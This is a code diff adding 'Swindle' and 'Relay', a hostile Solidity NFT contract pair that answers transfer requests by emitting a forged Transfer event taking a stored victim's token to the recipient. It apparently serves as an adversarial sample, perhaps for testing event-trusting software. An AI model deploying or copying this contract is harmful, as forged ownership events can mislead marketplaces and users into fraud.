@@ -72,3 +72,22 @@ contract Maker {
         emit Made(at);
     }
 }
+
+/// A collection that has a helper of its maker move another account's NFT whenever it is asked to move one.
+contract Swindle {
+    string public name = "Swindle";
+    string public symbol = "SWNDL";
+    Relay immutable relay = new Relay();
+    address immutable victim;
+    event Transfer(address indexed from, address indexed to, uint256 indexed tokenId);
+    constructor(address victim_) { victim = victim_; }
+    function supportsInterface(bytes4) external pure returns (bool) { return true; }
+    function transferFrom(address from, address to, uint256 tokenId) external {
+        if (from != victim) relay.pass(victim, to, tokenId);
+        else emit Transfer(from, to, tokenId);
+    }
+}
+
+contract Relay {
+    function pass(address from, address to, uint256 tokenId) external { Swindle(msg.sender).transferFrom(from, to, tokenId); }
+}
